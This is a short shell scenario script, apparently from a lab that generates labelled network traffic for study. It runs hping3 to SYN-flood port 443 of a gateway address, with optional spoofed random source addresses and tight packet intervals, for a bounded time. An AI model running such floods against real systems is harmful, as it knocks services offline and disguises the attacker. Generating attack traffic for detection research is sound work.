# SPDX-License-Identifier: MIT
# label: dos-syn
# source: lab-hping3
# needs: hping3
# seconds: 60
# vantage: wan
# The gateway's own public address is flooded; seen on its outer side.
. $lab/victims.sh

scenario() {
	_spoof=$(choose "" "--rand-source")
	_gap=$(choose u500 u2000)
	setting options "-S -p 443 -i $_gap $_spoof"
	intent_begin '*' gw tcp 443
	on t timeout "$(pick 8 15)" hping3 -q -n -S -p 443 -i "$_gap" $_spoof 203.0.113.1
	intent_end
}
